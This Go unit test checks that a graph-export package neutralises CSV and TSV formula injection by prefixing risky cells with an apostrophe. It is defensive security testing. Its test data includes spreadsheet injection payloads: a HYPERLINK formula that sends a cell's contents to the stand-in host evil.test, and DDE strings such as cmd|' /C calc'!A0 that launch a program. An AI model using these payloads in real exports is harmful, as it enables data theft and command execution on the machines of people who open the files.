package query

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestReliabilityCSVInjection: cells a spreadsheet would run as formulas
// are neutralised in the CSV export and TSV listings (issue 15, finding 4).
func TestReliabilityCSVInjection(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://evil.test/?"&A1,"click")`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=cmd|' /C calc'!A0`,
		`+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", `＝1+1`}
	for _, h := range hostile {
		if got := SafeCell(h); !strings.HasPrefix(got, "'") || got[1:] != h {
			t.Errorf("SafeCell(%q) = %q", h, got)
		}
	}
	for _, ok := range []string{"", "-", "-0.5", "+3", "Omar al-Shammari", "0.9", "https://graphbuild.dev/id/person/x"} {
		if got := SafeCell(ok); got != ok {
			t.Errorf("SafeCell(%q) = %q, want it unchanged", ok, got)
		}
	}
	g := ExportGraph{
		Nodes: []GraphNode{{ID: "https://graphbuild.dev/id/person/x", Name: `=cmd|' /C calc'!A0`, Type: "Person", Aliases: []string{"@SUM(1+1)"}}},
		Edges: []GraphEdge{{Source: "a", Target: "b", Predicate: "worksAt", Evidence: `=HYPERLINK("http://evil.test","x")`, Confidence: 0.9}},
	}
	var nodes, edges bytes.Buffer
	if err := WriteCSV(&nodes, &edges, g); err != nil {
		t.Fatal(err)
	}
	for _, buf := range []*bytes.Buffer{&nodes, &edges} {
		recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range recs {
			for _, c := range r {
				if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
					t.Errorf("CSV cell %q starts a formula", c)
				}
			}
		}
	}
	var tsv bytes.Buffer
	writeList(&tsv, "tsv", []string{"Name", "Quote"}, []int{0}, func(int) []string { return []string{"@SUM(1+1)", `=HYPERLINK("x")`} }, "")
	if want := "name\tquote\n'@SUM(1+1)\t'=HYPERLINK(\"x\")\n"; tsv.String() != want {
		t.Errorf("TSV %q, want %q", tsv.String(), want)
	}
}
